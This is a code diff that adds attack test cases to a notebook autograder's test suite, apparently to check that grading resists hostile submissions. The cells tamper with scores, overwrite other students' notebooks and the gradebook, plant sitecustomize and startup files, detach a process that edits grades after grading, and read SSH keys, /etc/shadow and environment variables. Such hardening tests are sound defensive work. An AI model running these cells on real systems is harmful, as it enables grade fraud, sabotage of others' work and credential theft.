@@ -3,7 +3,6 @@
 Each attack edits answer cells or test cells of the blank release (worth 0) or of the reference
 solution (worth 13), or adds cells. ``earned`` gives the points each item may legitimately get.
 """
-import copy
 import json
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -182,3 +181,142 @@ def _rand_sampler() -> str:
 
 
 ATTACKS[-1].answers["sample_from_model"] = _rand_sampler()
+
+
+# --- attacks on the kernel, its files and its environment, graded through `a12 autograde` ------------------------
+#
+# Each attacker submits the reference solution less two answers (train/evaluate and sample_from_model,
+# 5 points): it honestly earns 8 of 13 auto points. Its attack cells run first, right after the
+# imports, so that they act on everything after them. SECRET marks what must never reach feedback.
+
+SECRET = "A12-SECRET-7c1e"
+HONEST = dict(FULL, **{"12.5c": 0, "12.6d": 0})
+STUBBED = ("train_and_evaluate", "sample_from_model")
+PEERS = ("ana", "blank")  # the honest student (13) and the blank release (0) graded beside the attackers
+FULL_POINTS = ("{" + ", ".join(f'"{k}": {v}' for k, v in FULL.items()) + "}")
+COURSE = "__import__('pathlib').Path.cwd().parents[2]"  # the kernel's folder is autograded/<student>/assignment12
+
+
+@dataclass
+class KernelAttack:
+    """A hostile submission of one attack class: cells that run before the answers, and files beside the notebook."""
+    student: str
+    kind: str
+    what: str
+    cells: list[str]
+    files: dict[str, str] = field(default_factory=dict)  # path beside the notebook -> text
+
+
+KERNEL_ATTACKS = [
+    KernelAttack("rewrite", "in-kernel rewriting", "IPython input and AST transformers, display hook, print, "
+                 "sys.stdout and a fake autograder.notebook in sys.modules all report full points", [
+        "import ast, builtins, io, sys, types\n"
+        "ip = get_ipython()\n"
+        f"FULL = {FULL_POINTS}\n"
+        "ip.input_transformers_post.append(lambda lines: [l.replace('score(\"', 'FULL.get(\"') for l in lines])\n"
+        "class Full(ast.NodeTransformer):\n"
+        "    def visit_Call(self, node):\n"
+        "        if getattr(node.func, 'id', '') == 'score':\n"
+        "            return ast.copy_location(ast.Subscript(ast.Name('FULL', ast.Load()), node.args[0], ast.Load()), node)\n"
+        "        return node\n"
+        "ip.ast_transformers.append(Full())\n"
+        "fake = types.ModuleType('autograder.notebook')\n"
+        "fake.score = lambda item: FULL[item]\n"
+        "sys.modules['autograder.notebook'] = fake\n"
+        "_print = builtins.print\n"
+        "builtins.print = lambda *a, **k: _print(*[str(x).replace('0 of', 'all of') for x in a], **k)\n"
+        "_hook = ip.displayhook.compute_format_data\n"
+        "ip.displayhook.compute_format_data = lambda result: _hook(3.0)\n"]),
+    KernelAttack("files", "file system", "writes gradebook.db with sqlite3, other students' notebooks, the grader's "
+                 "code, nbgrader_config.py, startup and sitecustomize files, a package that shadows the grader's, "
+                 "and copies another student's answers over its own", [
+        "import glob, json, os, pathlib, shutil, sqlite3, site, sysconfig\n"
+        f"course = {COURSE}\n"
+        "def attempt(action):\n"
+        "    try:\n"
+        "        action()\n"
+        "    except Exception as error:\n"
+        "        print('refused:', type(error).__name__)\n"
+        "def zero_everyone():\n"
+        "    db = sqlite3.connect(course / 'gradebook.db')\n"
+        "    db.execute('update grade set auto_score = 0')\n"
+        "    db.execute(\"update grade set manual_score = max_score\")\n"
+        "    db.commit()\n"
+        "attempt(zero_everyone)\n"
+        "attempt(lambda: (course / 'submitted' / 'ana' / 'assignment12' / 'assignment12.ipynb').write_text('{}'))\n"
+        "attempt(lambda: (course / 'autograded' / 'ana' / 'assignment12' / 'assignment12.ipynb').write_text('{}'))\n"
+        "attempt(lambda: shutil.copy(course / 'submitted' / 'ana' / 'assignment12' / 'assignment12.ipynb', "
+        "'assignment12.ipynb'))\n"
+        "attempt(lambda: shutil.copy(course / 'submitted' / 'ana' / 'assignment12' / 'assignment12.ipynb', "
+        "course / 'submitted' / 'files' / 'assignment12' / 'assignment12.ipynb'))\n"
+        "import autograder\n"
+        "package = pathlib.Path(autograder.__file__).parent\n"
+        "for name in ('notebook.py', 'reference.py', 'grade.py', 'checks/sampling.py'):\n"
+        "    attempt(lambda: open(package / name, 'a').write('\\nraise SystemExit(0)\\n'))\n"
+        "attempt(lambda: open(course / 'nbgrader_config.py', 'a').write('\\nc.Execute.timeout = 1\\n'))\n"
+        "attempt(lambda: (course / 'autograder').mkdir())\n"
+        "attempt(lambda: (course / 'autograder' / '__init__.py').write_text('raise SystemExit(0)'))\n"
+        "home = pathlib.Path(os.path.expanduser('~' + __import__('pwd').getpwuid(0).pw_name))\n"
+        "for folder in (home, pathlib.Path.home()):\n"
+        "    startup = folder / '.ipython' / 'profile_default' / 'startup'\n"
+        "    attempt(lambda: startup.mkdir(parents=True, exist_ok=True))\n"
+        "    attempt(lambda: (startup / '00-zero.py').write_text('raise SystemExit(0)'))\n"
+        "for folder in {sysconfig.get_paths()['purelib'], *site.getsitepackages()}:\n"
+        "    attempt(lambda: open(os.path.join(folder, 'sitecustomize.py'), 'w').write('raise SystemExit(0)'))\n"
+        "    attempt(lambda: open(os.path.join(folder, 'zzz-a12.pth'), 'w').write('import os; os._exit(0)'))\n"]),
+    KernelAttack("detach", "processes", "a double-forked, setsid process that outlives grading, then edits the "
+                 "gradebook and the autograded notebooks", [
+        "import os, sys\n"
+        "STRIKE = '\\n'.join([\n"
+        "    'import pathlib, sys, time',\n"
+        "    'time.sleep(8)  # grading has ended by then',\n"
+        "    'course = pathlib.Path(sys.argv[1])',\n"
+        "    'for target in [course / \"gradebook.db\", *course.glob(\"autograded/*/assignment12/*.ipynb\")]:',\n"
+        "    '    try:',\n"
+        "    '        open(target, \"ab\").write(b\"A12-DETACHED\")',\n"
+        "    '    except OSError:',\n"
+        "    '        pass',\n"
+        "    'time.sleep(60)'])\n"
+        "if os.fork() == 0:\n"
+        "    os.setsid()\n"
+        "    if os.fork() == 0:  # a marked command line, to find it by\n"
+        f"        os.execv(sys.executable, [sys.executable, '-c', STRIKE, str({COURSE}), 'A12-DETACHED'])\n"
+        "    os._exit(0)\n"]),
+    KernelAttack("secrets", "reading secrets", "prints the source notebook, the hidden tests, reference.py, the "
+                 "gradebook, another submission, the instructor's home and the environment", [
+        "import glob, os, pathlib\n"
+        f"course = {COURSE}\n"
+        "paths = [course / 'source' / 'assignment12' / 'assignment12.ipynb', course / 'gradebook.db',\n"
+        "         course / 'submitted' / 'ana' / 'assignment12' / 'assignment12.ipynb', 'assignment12.ipynb',\n"
+        "         os.path.join(os.path.dirname(__import__('autograder').__file__), 'reference.py'),\n"
+        "         os.path.expanduser('~root/.ssh/id_rsa'), *glob.glob('/home/*/.ssh/*'), '/etc/shadow']\n"
+        "for path in paths:\n"
+        "    try:\n"
+        "        print(path, pathlib.Path(path).read_text(errors='replace')[:20000])\n"
+        "    except Exception as error:\n"
+        "        print(path, 'refused:', type(error).__name__)\n"
+        "print(dict(os.environ))\n"]),
+    KernelAttack("beside", "submitted files", "a package named like the grader's and a sitecustomize.py submitted "
+                 "beside the notebook, no attack code in it", [], files={
+        "autograder/__init__.py": "",
+        "autograder/notebook.py": f"def score(item):\n    return {FULL_POINTS}[item]\n",
+        "sitecustomize.py": "import os\nos.environ['A12_HIJACKED'] = '1'\n"}),
+]
+
+
+def kernel_attack_notebook(root: Path, attack: KernelAttack):
+    """The attacker's notebook in the course at ``root``: the solution's answers, ``STUBBED`` blank, the
+    attack cells right after the imports."""
+    import nbformat
+    from autograder import demo
+    nb = demo.student_notebook(root, demo.DemoStudent(attack.student, attack.what, added={"imports": ""}))
+    cells = []
+    for cell in nb.cells:
+        if cell.metadata.get("nbgrader", {}).get("grade_id") in STUBBED:
+            cell.source = "# YOUR CODE HERE\nraise NotImplementedError()"
+        if cell.cell_type == "code" and cell.source == "":  # where demo put the added cell
+            cells += [nbformat.v4.new_code_cell(source) for source in attack.cells]
+            continue
+        cells.append(cell)
+    nb.cells = cells
+    return nb
